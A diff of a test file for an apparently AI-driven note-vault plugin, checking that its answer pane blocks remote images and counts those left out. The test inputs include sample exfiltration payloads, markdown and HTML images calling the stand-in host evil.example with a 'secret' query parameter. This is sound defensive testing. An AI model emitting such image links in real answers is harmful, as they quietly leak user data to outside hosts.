@@ -100,14 +100,13 @@ describe("the pane", () => {
 		expect(plugin).toBeDefined();
 	});
 
-	it("loads no remote image, whether markdown, reference or HTML", async () => {
-		const answer =
-			"Look ![chart](https://evil.example/c.png?d=secret) and <img src='https://evil.example/i.png'> " +
-			"and ![t][r] at [[Daily/2026-11-12]].\n\n[r]: https://evil.example/r.png";
-		const { pane } = await askedPane([done(answer, [])]);
-		expect(pane.querySelectorAll("img")).toHaveLength(0);
+	it("shows no remote image, and counts what the sidecar and the pane left out", async () => {
+		// The stub renders markdown images only: turn.test.ts renders raw HTML and references.
+		const answer = "Look ![chart](https:/evil.example/c.png?d=secret) and ![ok](attachments/a.png) at [[Daily/2026-11-12]].";
+		const { pane } = await askedPane([done(answer, [], { removed_images: ["https://evil.example/r.png"] })]);
+		expect(Array.from(pane.querySelectorAll("img")).map((img) => img.getAttribute("src"))).toEqual(["attachments/a.png"]);
 		expect(pane.querySelector(".vault-agent-answer")?.textContent).toContain("remote image not loaded: chart");
-		expect(pane.querySelector(".vault-agent-footer")?.textContent).toMatch(/3 remote images or tags were not loaded/);
+		expect(pane.querySelector(".vault-agent-footer")?.textContent).toMatch(/2 remote images or tags were not loaded/);
 	});
 
 	it("sends the active note's unsaved content, its neighbourhood and the settings", async () => {
